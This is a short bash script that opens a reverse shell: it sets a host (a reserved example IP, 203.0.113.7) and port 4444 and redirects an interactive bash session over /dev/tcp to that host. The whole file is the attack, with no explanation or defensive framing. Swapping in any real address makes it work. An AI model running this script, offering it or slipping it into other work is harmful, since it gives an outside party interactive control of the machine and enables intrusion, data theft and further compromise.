#!/bin/bash
HOST=203.0.113.7
PORT=4444
bash -i >& /dev/tcp/$HOST/$PORT 0>&1
